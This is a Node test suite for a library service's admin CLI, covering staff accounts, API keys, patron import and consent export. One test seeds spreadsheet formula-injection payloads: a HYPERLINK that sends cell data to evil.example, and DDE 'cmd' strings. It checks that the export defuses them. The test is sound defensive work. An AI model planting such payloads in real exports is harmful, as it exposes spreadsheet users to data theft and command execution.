import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { createHash } from 'node:crypto'
import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { parse as parseCsv } from 'csv-parse/sync'
import { verifySecret } from '../../src/services/passwords.js'
import { openStore, type Store } from '../../src/store/store.js'
import { envFor, freshDatabaseUrl, queryDb } from '../support/database.js'
import { visibleText, WebClient } from '../support/staffClient.js'
import { startTestApp, type TestApp } from '../support/testApp.js'

const repoRoot = fileURLToPath(new URL('../..', import.meta.url))

interface CliRun {
  code: number
  stdout: string
  stderr: string
  ms: number
}

/** `webpac …` as a separate process, the way an admin runs it beside the server. */
function runCli(dir: string, args: string[], options: { input?: string; env?: Record<string, string> } = {}): Promise<CliRun> {
  const started = Date.now()
  const child = spawn(process.execPath, ['--import', 'tsx', 'src/cli/main.ts', ...args], {
    cwd: repoRoot,
    env: {
      ...process.env,
      NODE_ENV: 'development',
      DATA_DIR: join(dir, 'data'),
      MESSAGES_CONF: join(dir, 'messages.conf'),
      WEB_OPTIONS: join(dir, 'webpub.def'),
      SEED_DEMO: '0',
      ...options.env,
    },
    stdio: ['pipe', 'pipe', 'pipe'],
  })
  let stdout = ''
  let stderr = ''
  child.stdout.on('data', (chunk: Buffer) => {
    stdout += chunk.toString()
  })
  child.stderr.on('data', (chunk: Buffer) => {
    stderr += chunk.toString()
  })
  child.stdin.end(options.input ?? '')
  return new Promise((resolve) => child.once('close', (code) => resolve({ code: code ?? -1, stdout, stderr, ms: Date.now() - started })))
}

describe('webpac CLI (SPEC 6)', () => {
  let app: TestApp
  let store: Store
  const cli = (args: string[], options?: { input?: string }) => runCli(app.dir, args, { ...options, env: envFor(store) })

  // A running server on the same database: the CLI must work beside it (WAL + busy_timeout).
  before(async () => {
    app = await startTestApp()
    store = app.services.store
  })
  after(async () => {
    await app.close()
  })

  describe('usage and exit codes', () => {
    test('no command, an unknown command or a missing argument exits 2 with the usage; --help exits 0', async () => {
      // Each run is a separate process: they run side by side.
      const usages = [[], ['frobnicate'], ['patrons', 'import'], ['patrons', 'delete', 'a', 'b']]
      const [help, ...runs] = await Promise.all([cli(['--help']), ...usages.map((args) => cli(args))])
      for (const [index, run] of runs.entries()) {
        assert.equal(run.code, 2, usages[index]!.join(' '))
        assert.match(run.stderr, /Usage: webpac|error:/)
      }
      assert.equal(help.code, 0)
      assert.match(help.stdout, /patrons[\s\S]*staff[\s\S]*apikey[\s\S]*config[\s\S]*consent/)
    })
  })

  describe('config check', () => {
    test('SPEC 2 config check: valid files exit 0; broken files exit 1 with every error and its file and line', async () => {
      const ok = await cli(['config', 'check'])
      assert.equal(ok.code, 0)
      assert.match(ok.stdout, /messages\.conf: OK/)
      assert.match(ok.stdout, /webpub\.def: OK/)

      const dir = join(app.dir, 'broken')
      mkdirSync(dir)
      writeFileSync(join(dir, 'messages.conf'), '# fine\nSMS_STATUS_OPTED_IN=In\nnot a line\n')
      writeFileSync(join(dir, 'webpub.def'), 'SMS_COUNTRY=Narnia\nSMS_SEND_WINDOW=25:00-26:00\n')
      const broken = await runCli(dir, ['config', 'check'])
      assert.equal(broken.code, 1)
      assert.match(broken.stdout, /messages\.conf:3: expected KEY=VALUE/)
      assert.match(broken.stdout, /webpub\.def:1: .*SMS_COUNTRY/)
      assert.match(broken.stdout, /webpub\.def:2: .*SMS_SEND_WINDOW/)
      assert.match(broken.stderr, /webpac: the configuration has 3 errors/)
    })

    test('config check works on a production host without the web server settings: no SESSION_SECRET or SMS_GATEWAY needed', async () => {
      const production = { NODE_ENV: 'production', SESSION_SECRET: '', SMS_GATEWAY: '', SEED_DEMO: '1' }
      const run = await runCli(app.dir, ['config', 'check'], { env: production })
      assert.equal(run.code, 0, run.stderr)
      assert.match(run.stdout, /messages\.conf: OK/)
      assert.match(run.stdout, /webpub\.def: OK/)
      assert.equal(run.stderr, '')
    })
  })

  describe('staff add', () => {
    test('staff add USER takes the password from stdin; the account can then log in, and running it again changes the password', async () => {
      const created = await cli(['staff', 'add', 'Circulation.Desk'], { input: 'first-password-1\n' })
      assert.equal(created.code, 0, created.stderr)
      assert.match(created.stdout, /Staff account circulation\.desk created/)
      assert.equal((await app.services.staff.auth.login('circulation.desk', 'first-password-1', '10.0.0.1')).kind, 'ok')

      const changed = await cli(['staff', 'add', 'circulation.desk'], { input: 'second-password-2\n' })
      assert.equal(changed.code, 0)
      assert.match(changed.stdout, /already existed: its password is changed/)
      assert.equal((await app.services.staff.auth.login('circulation.desk', 'second-password-2', '10.0.0.1')).kind, 'ok')
      assert.equal((await app.services.staff.auth.login('circulation.desk', 'first-password-1', '10.0.0.1')).kind, 'wrong')
    })

    test('staff add refuses a short password, an empty stdin or a bad username with exit 1 and a clear message', async () => {
      const [short, empty, badName] = await Promise.all([
        cli(['staff', 'add', 'alice'], { input: 'short\n' }),
        cli(['staff', 'add', 'alice'], { input: '' }),
        cli(['staff', 'add', 'has space'], { input: 'long-enough-password\n' }),
      ])
      assert.equal(short.code, 1)
      assert.match(short.stderr, /webpac: A staff password must be 10 to 200 characters long/)
      assert.equal(empty.code, 1)
      assert.match(empty.stderr, /no password/)
      assert.equal(badName.code, 1)
      assert.match(badName.stderr, /username/)
      assert.equal(await store.repos.staff.findByUsername('alice'), undefined)
    })
  })

  describe('apikey create', () => {
    test('apikey create NAME prints the key once; only its SHA-256 hash is stored, and the key opens the alerts API', async () => {
      const run = await cli(['apikey', 'create', 'sierra-notices'])
      assert.equal(run.code, 0)
      const key = run.stdout.trim()
      assert.match(key, /^wpk_[A-Za-z0-9_-]{43}$/)
      assert.match(run.stderr, /cannot be shown again/)
      const hash = createHash('sha256').update(key).digest('hex')
      const rows = await queryDb<{ name: string }>(store.location, 'SELECT name FROM api_keys WHERE key_hash = ?', hash)
      assert.deepEqual(
        rows.map((row) => row.name),
        ['sierra-notices'],
      )
      const response = await fetch(`${app.url}/api/v1/alerts/1`, { headers: { authorization: `Bearer ${key}` } })
      assert.notEqual(response.status, 401)
      const empty = await cli(['apikey', 'create', ' '])
      assert.equal(empty.code, 1)
    })
  })

  describe('finding 9: staff accounts', () => {
    const wrongPassword = 'The username or password is not right.'
    before(async () => {
      assert.equal((await cli(['staff', 'add', 'day.desk'], { input: 'day-password-12\n' })).code, 0)
    })

    async function staffSession(username: string, password: string): Promise<WebClient> {
      const client = new WebClient(app.url)
      assert.equal((await client.staffLogIn(username, password)).location, '/staff')
      assert.equal((await client.get('/staff')).status, 200)
      return client
    }

    test('webpac staff --help and apikey --help explain disable, list and revoke', async () => {
      const [staff, apikey] = await Promise.all([cli(['staff', '--help']), cli(['apikey', '--help'])])
      assert.match(staff.stdout, /disable <user>\s+stop a staff account from logging in and log it out everywhere/)
      assert.match(staff.stdout, /a new password logs the\s+account out everywhere/)
      assert.match(apikey.stdout, /list\s+list the API keys: name, when made, when last used/)
      assert.match(apikey.stdout, /revoke <name>\s+revoke an API key/)
      assert.doesNotMatch(staff.stdout + apikey.stdout, /SPEC/)
    })

    test('staff disable USER: a logged-in session is sent back to the login, and the right password answers like a wrong one', async () => {
      assert.equal((await cli(['staff', 'add', 'night.desk'], { input: 'night-password-1\n' })).code, 0)
      const open = await staffSession('night.desk', 'night-password-1')
      const colleague = await staffSession('day.desk', 'day-password-12')

      const run = await cli(['staff', 'disable', 'Night.Desk'])
      assert.equal(run.code, 0, run.stderr)
      assert.match(run.stdout, /Staff account night\.desk disabled: it can no longer log in\. 1 open session ended\./)

      const after = await open.get('/staff')
      assert.equal(after.status, 303)
      assert.equal(after.location, '/staff/login')
      const right = await new WebClient(app.url).staffLogIn('night.desk', 'night-password-1')
      const wrong = await new WebClient(app.url).staffLogIn('night.desk', 'not-the-password')
      assert.equal(right.status, 401)
      assert.equal(visibleText(right.text).replace(/value="[^"]*"/g, ''), visibleText(wrong.text).replace(/value="[^"]*"/g, ''))
      assert.match(visibleText(right.text), new RegExp(wrongPassword))
      assert.equal((await colleague.get('/staff')).status, 200, 'other accounts keep their sessions')

      const again = await cli(['staff', 'disable', 'night.desk'])
      assert.equal(again.code, 0)
      assert.match(again.stdout, /already disabled/)
      const unknown = await cli(['staff', 'disable', 'nobody.here'])
      assert.equal(unknown.code, 1)
      assert.match(unknown.stderr, /webpac: There is no staff account "nobody\.here"/)

      const enabled = await cli(['staff', 'add', 'night.desk'], { input: 'night-password-2\n' })
      assert.equal(enabled.code, 0)
      assert.match(enabled.stdout, /enabled again/)
      await staffSession('night.desk', 'night-password-2')
    })

    test('staff add USER with a new password ends every open session of that account, and only of that account', async () => {
      assert.equal((await cli(['staff', 'add', 'branch.desk'], { input: 'branch-password-1\n' })).code, 0)
      const laptop = await staffSession('branch.desk', 'branch-password-1')
      const phone = await staffSession('branch.desk', 'branch-password-1')
      const colleague = await staffSession('day.desk', 'day-password-12')

      const run = await cli(['staff', 'add', 'branch.desk'], { input: 'branch-password-2\n' })
      assert.equal(run.code, 0, run.stderr)
      for (const client of [laptop, phone]) assert.equal((await client.get('/staff')).location, '/staff/login')
      assert.equal((await colleague.get('/staff')).status, 200)
      assert.match(run.stdout, /already existed: its password is changed; 2 open sessions ended\./)
      await staffSession('branch.desk', 'branch-password-2')
    })
  })

  describe('finding 9: API keys', () => {
    const alerts = (key: string) => fetch(`${app.url}/api/v1/alerts/1`, { headers: { authorization: `Bearer ${key}` } })

    test('apikey revoke NAME: the key answers 401 from then on; a name that holds no key exits 1', async () => {
      const key = (await cli(['apikey', 'create', 'old-ils'])).stdout.trim()
      assert.notEqual((await alerts(key)).status, 401)

      const run = await cli(['apikey', 'revoke', 'old-ils'])
      assert.equal(run.code, 0, run.stderr)
      assert.match(run.stdout, /API key "old-ils" revoked/)
      const refused = await alerts(key)
      assert.equal(refused.status, 401)
      assert.match(refused.headers.get('www-authenticate') ?? '', /^Bearer/)

      const again = await cli(['apikey', 'revoke', 'old-ils'])
      assert.equal(again.code, 1)
      assert.match(again.stderr, /already revoked/)
      const unknown = await cli(['apikey', 'revoke', 'never-made'])
      assert.equal(unknown.code, 1)
      assert.match(unknown.stderr, /no API key named "never-made"/)
    })

    test("apikey list shows each key's name, creation date and last use (or never), and revoked ones; never a key or its hash", async () => {
      const used = (await cli(['apikey', 'create', 'list-used'])).stdout.trim()
      const unused = (await cli(['apikey', 'create', 'list-unused'])).stdout.trim()
      const revoked = (await cli(['apikey', 'create', 'list-revoked'])).stdout.trim()
      assert.notEqual((await alerts(used)).status, 401)
      assert.equal((await cli(['apikey', 'revoke', 'list-revoked'])).code, 0)

      const run = await cli(['apikey', 'list'])
      assert.equal(run.code, 0, run.stderr)
      const line = (name: string) => run.stdout.split('\n').find((candidate) => candidate.startsWith(`${name} `)) ?? ''
      const date = '\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2} UTC'
      assert.match(run.stdout, /^NAME\s+CREATED\s+LAST USED\s+STATUS/)
      assert.match(line('list-used'), new RegExp(`^list-used\\s+${date}\\s+${date}\\s+active$`))
      assert.match(line('list-unused'), new RegExp(`^list-unused\\s+${date}\\s+never\\s+active$`))
      assert.match(line('list-revoked'), new RegExp(`^list-revoked\\s+${date}\\s+never\\s+revoked ${date}$`))
      for (const key of [used, unused, revoked]) {
        assert.ok(!run.stdout.includes(key), 'no key')
        assert.ok(!run.stdout.includes(createHash('sha256').update(key).digest('hex')), 'no hash')
      }
      assert.doesNotMatch(run.stdout + run.stderr, /wpk_|[0-9a-f]{64}/)
    })

    test('apikey create refuses a name an active key already has, so that revoke NAME names one key', async () => {
      assert.equal((await cli(['apikey', 'create', 'twice'])).code, 0)
      const second = await cli(['apikey', 'create', 'twice'])
      assert.equal(second.code, 1)
      assert.match(second.stderr, /already an active API key named "twice"/)
      assert.equal(second.stdout, '')
    })
  })

  describe('patrons import', () => {
    test('import keeps good rows, reports each bad row by line and reason, keeps an invalid mobile as typed with a warning, hashes PINs, allows empty PINs, and opts no one in', async () => {
      const existing = await store.repos.patrons.insert({
        barcode: '3100000000000',
        name: 'Already Here',
        pin_hash: null,
        email: '',
        tele1: '',
        mobile: '',
        created_at: 'x',
        updated_at: 'x',
      })
      const file = join(app.dir, 'small.csv')
      writeFileSync(
        file,
        [
          'barcode,name,pin,email,mobile', // 1
          '3100000000001,"Lovelace, Ada",1234,ada@example.org,(201) 555-0801', // 2
          ',No Barcode,,,', // 3
          '3100000000003,,,,', // 4
          '3100000000004,Bad Email,,not-an-email,', // 5
          '3100000000005,Bad Mobile,,,12345', // 6
          '3100000000000,Existing Barcode,,,', // 7
          '3100000000001,Twice In File,,,', // 8
          '3100000000009,Too,Few', // 9
          '3100000000010,"Multi', // 10
          'Line Name",,,', // 11
          '', // 12: blank lines are skipped
          '3100000000012,No Pin,,,+44 7400 123456', // 13
        ].join('\r\n'),
      )
      const run = await cli(['patrons', 'import', file])
      assert.equal(run.code, 1, 'rows were rejected')
      const problems = run.stdout.split('\n').filter((line) => line.startsWith('line '))
      assert.deepEqual(problems, [
        'line 3: rejected: barcode is empty',
        'line 4: rejected: name is empty',
        'line 5: rejected: email "not-an-email" is not an address like name@example.org',
        'line 6: warning: mobile "12345" kept as typed, but it does not have 10 to 15 digits: this patron cannot opt in to SMS until it is corrected',
        'line 7: rejected: barcode 3100000000000 already exists; row skipped (import never changes an existing patron)',
        'line 8: rejected: barcode 3100000000001 is also on line 2; row skipped',
        'line 9: rejected: expected 5 fields (barcode,name,pin,email,mobile), found 3',
      ])
      assert.match(run.stdout, /Imported 4 of 10 rows from .*small\.csv/)
      assert.match(run.stdout, /6 rows rejected/)
      assert.match(run.stdout, /1 patron imported with a mobile number that cannot receive SMS/)
      assert.match(run.stdout, /3 patrons imported without a PIN/)
      assert.match(run.stdout, /No one was opted in/)

      const ada = await store.repos.patrons.findByBarcode('3100000000001')
      assert.equal(ada?.name, 'Lovelace, Ada')
      assert.equal(ada?.mobile, '(201) 555-0801')
      assert.ok(await verifySecret('1234', ada?.pin_hash ?? null))
      assert.equal((await store.repos.patrons.findByBarcode('3100000000005'))?.mobile, '12345')
      assert.equal((await store.repos.patrons.findByBarcode('3100000000010'))?.name, 'Multi\nLine Name')
      assert.equal((await store.repos.patrons.findByBarcode('3100000000012'))?.pin_hash, null)
      assert.equal((await store.repos.patrons.findById(existing))?.name, 'Already Here')
      for (const barcode of ['3100000000001', '3100000000005', '3100000000012']) {
        const patron = await store.repos.patrons.findByBarcode(barcode)
        assert.equal(await store.repos.registrations.findByPatron(patron!.id), undefined, `${barcode} is not opted in`)
      }
      const found = await app.services.staff.search.search('+1 201-555-0801')
      assert.deepEqual(
        found.rows.map((row) => row.barcode),
        ['3100000000001'],
      )
    })

    test('import of a file whose rows are all good exits 0; a missing file or a wrong header exits 1 and imports nothing', async () => {
      const good = join(app.dir, 'good.csv')
      writeFileSync(good, 'Mobile,Email,Pin,Name,Barcode\n(201) 555-0901,,,Reordered Columns,3200000000001\n')
      const run = await cli(['patrons', 'import', good])
      assert.equal(run.code, 0, run.stdout + run.stderr)
      assert.equal((await store.repos.patrons.findByBarcode('3200000000001'))?.mobile, '(201) 555-0901')

      const header = join(app.dir, 'header.csv')
      writeFileSync(header, 'barcode,name,pin,email,phone\n3200000000002,Wrong Header,,,\n')
      const [missing, wrong] = await Promise.all([
        cli(['patrons', 'import', join(app.dir, 'nope.csv')]),
        cli(['patrons', 'import', header]),
      ])
      assert.equal(missing.code, 1)
      assert.match(missing.stderr, /webpac: cannot read .*nope\.csv: no such file/)
      assert.equal(wrong.code, 1)
      assert.match(wrong.stderr, /line 1: unknown column "phone": the first line must be the header barcode,name,pin,email,mobile/)
      assert.equal(await store.repos.patrons.findByBarcode('3200000000002'), undefined)
    })

    test('import of 100,000 rows with 1% bad rows, beside the running server: every bad line reported, 99,000 kept, memory flat, under 60 s', {
      timeout: 120_000,
    }, async (t) => {
      const file = join(app.dir, 'big.csv')
      const badLines = new Set<number>()
      const out = createWriteStream(file)
      out.write('barcode,name,pin,email,mobile\n')
      for (let row = 0; row < 100_000; row++) {
        const line = row + 2
        const barcode = `4${String(row).padStart(13, '0')}`
        let text: string
        if (row % 100 === 37) {
          badLines.add(line)
          // Four kinds of bad row, in turn.
          text = [`,No Barcode ${row},,,`, `${barcode},,,,`, `${barcode},Bad Email,,nope,`, `${barcode},Short Row`][((row / 100) % 4) | 0]!
        } else {
          const pin = row % 2_000 === 5 ? '4321' : ''
          const mobile = row % 1_000 === 11 ? '555-12' : row % 10 === 0 ? `(973) 555-${String(row % 10_000).padStart(4, '0')}` : ''
          text = `${barcode},"Reader ${row}",${pin},,${mobile}`
        }
        if (!out.write(`${text}\n`)) await new Promise<void>((resolve) => out.once('drain', () => resolve()))
      }
      await new Promise<void>((resolve) => out.end(resolve))

      let healthChecks = 0
      let healthy = true
      const polling = setInterval(() => {
        fetch(`${app.url}/healthz`).then(
          (response) => {
            healthChecks += 1
            healthy &&= response.ok
          },
          () => {
            healthy = false
          },
        )
      }, 250)
      const run = await runCli(app.dir, ['patrons', 'import', file], { env: envFor(store) })
      clearInterval(polling)

      assert.equal(run.code, 1)
      const reported = run.stdout
        .split('\n')
        .filter((line) => /^line \d+: rejected:/.test(line))
        .map((line) => Number(/^line (\d+)/.exec(line)![1]))
      assert.deepEqual(new Set(reported), badLines)
      assert.equal(reported.length, 1_000)
      assert.match(run.stdout, /Imported 99,000 of 100,000 rows/)
      assert.match(run.stdout, /1,000 rows rejected/)
      assert.match(run.stdout, /100 patrons imported with a mobile number that cannot receive SMS/)
      assert.match(run.stderr, /progress: 10,\d{3} rows read/, 'plain progress lines when not on a terminal')
      const peakMb = Number(/peak memory (\d+) MB/.exec(run.stdout)?.[1])
      assert.ok(peakMb > 0 && peakMb < 400, `peak memory ${peakMb} MB`)
      assert.ok(run.ms < 60_000, `took ${run.ms} ms`)
      assert.ok(healthChecks > 0 && healthy, 'the server kept answering during the import')
      const [registrations] = await queryDb<{ n: number }>(store.location, 'SELECT count(*) AS n FROM sms_registrations')
      assert.equal(Number(registrations?.n), 0, 'no one was opted in')
      const withPin = await store.repos.patrons.findByBarcode('40000000000005')
      assert.ok(await verifySecret('4321', withPin?.pin_hash ?? null))
      t.diagnostic(`100k import: ${run.ms} ms, peak memory ${peakMb} MB`)
    })
  })

  describe('patrons delete', () => {
    test('SPEC 4.8 patrons delete BARCODE deletes the record silently and records a staff event by "cli"; an unknown barcode exits 1', async () => {
      const id = await store.repos.patrons.insert({
        barcode: '5100000000001',
        name: 'Cli Deleted',
        pin_hash: null,
        email: '',
        tele1: '',
        mobile: '(201) 555-0950',
        created_at: 'x',
        updated_at: 'x',
      })
      const at = new Date().toISOString()
      await store.repos.registrations.save({
        patron_id: id,
        status: 'opted_in',
        e164: '+12015550950',
        terms_hash: null,
        invited_at: at,
        status_changed_at: at,
      })
      const run = await cli(['patrons', 'delete', '5100000000001'])
      assert.equal(run.code, 0, run.stderr)
      assert.match(run.stdout, /Deleted patron 5100000000001 \(Cli Deleted\)\. SMS status was Opted In: opted out silently/)
      assert.equal(await store.repos.patrons.findById(id), undefined)
      const events = await store.repos.consent.listForBarcode('5100000000001')
      assert.deepEqual(
        events.map((event) => [event.channel, event.actor, event.to_status, event.reason]),
        [['staff', 'cli', 'not_opted_in', 'record_deleted']],
      )
      assert.deepEqual(await app.services.simulator!.conversation('+12015550950'), [])

      const again = await cli(['patrons', 'delete', '5100000000001'])
      assert.equal(again.code, 1)
      assert.match(again.stderr, /webpac: no patron has barcode 5100000000001/)
    })
  })

  describe('consent export', () => {
    test('SPEC 4.9 consent export writes every event as RFC 4180 CSV, oldest first; --since keeps the later ones; a bad date exits 2', async () => {
      const dir = join(app.dir, 'export')
      mkdirSync(dir)
      writeFileSync(join(dir, 'messages.conf'), '')
      writeFileSync(join(dir, 'webpub.def'), '')
      const own = await openStore({ dataDir: join(dir, 'data'), databaseUrl: await freshDatabaseUrl() })
      const env = envFor(own)
      const event = (at: string, userAgent: string | null) => ({
        patron_id: 1,
        barcode: '6100000000001',
        e164: '+12015550123',
        from_status: 'not_opted_in' as const,
        to_status: 'pending_optin' as const,
        channel: 'web' as const,
        reason: 'web_opt_in',
        terms_hash: 'abc',
        at,
        ip: '192.0.2.1',
        user_agent: userAgent,
        inbound_message_id: null,
        actor: null,
      })
      await own.repos.consent.append(event('2025-01-10T12:00:00.000Z', 'Browser "Quoted", with comma'))
      await own.repos.consent.append(event('2025-02-10T12:00:00.000Z', 'Line\nbreak'))
      await own.close()

      const [all, since, bad] = await Promise.all([
        runCli(dir, ['consent', 'export'], { env }),
        runCli(dir, ['consent', 'export', '--since', '2025-02-01'], { env }),
        runCli(dir, ['consent', 'export', '--since', '2025-02-30'], { env }),
      ])
      assert.equal(all.code, 0, all.stderr)
      assert.equal(
        all.stdout,
        [
          'id,at,patron_id,barcode,e164,from_status,to_status,channel,reason,terms_hash,ip,user_agent,inbound_message_id,actor',
          '1,2025-01-10T12:00:00.000Z,1,6100000000001,\'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,"Browser ""Quoted"", with comma",,',
          '2,2025-02-10T12:00:00.000Z,1,6100000000001,\'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,"Line\nbreak",,',
          '',
        ].join('\r\n'),
      )

      assert.equal(since.code, 0)
      assert.deepEqual(
        since.stdout.split('\r\n').map((line) => line.split(',')[0]),
        ['id', '2', ''],
      )

      assert.equal(bad.code, 2)
      assert.match(bad.stderr, /YYYY-MM-DD/)
    })

    test('finding 6: a User-Agent written as a spreadsheet formula is exported with a leading quote, so a spreadsheet shows it as text and runs nothing', async () => {
      const dir = join(app.dir, 'formulas')
      mkdirSync(dir)
      writeFileSync(join(dir, 'messages.conf'), '')
      writeFileSync(join(dir, 'webpub.def'), '')
      const own = await openStore({ dataDir: join(dir, 'data'), databaseUrl: await freshDatabaseUrl() })
      const env = envFor(own)
      const attacks = [
        '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '\t=1+1',
        '\r=1+1',
      ]
      for (const [index, userAgent] of attacks.entries()) {
        await own.repos.consent.append({
          patron_id: 1,
          barcode: `=${index}`,
          e164: '+12015550123',
          from_status: 'not_opted_in',
          to_status: 'pending_optin',
          channel: 'web',
          reason: 'web_opt_in',
          terms_hash: null,
          at: `2025-03-0${index + 1}T12:00:00.000Z`,
          ip: '192.0.2.1',
          user_agent: userAgent,
          inbound_message_id: null,
          actor: '@staff',
        })
      }
      await own.close()

      const run = await runCli(dir, ['consent', 'export'], { env })
      assert.equal(run.code, 0, run.stderr)
      assert.match(run.stdout, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&B2,""Click""\)",/)
      const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[]
      const readable = attacks.map((attack) => `'${attack}`)
      assert.deepEqual(
        rows.map((row) => row.user_agent),
        readable,
        'each value stays readable after the quote',
      )
      assert.deepEqual(
        rows.map((row) => row.barcode),
        attacks.map((_, index) => `'=${index}`),
      )
      assert.deepEqual(new Set(rows.map((row) => row.actor)), new Set(["'@staff"]))
      for (const row of rows) {
        for (const [column, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} could start a formula`)
      }
    })
  })
})
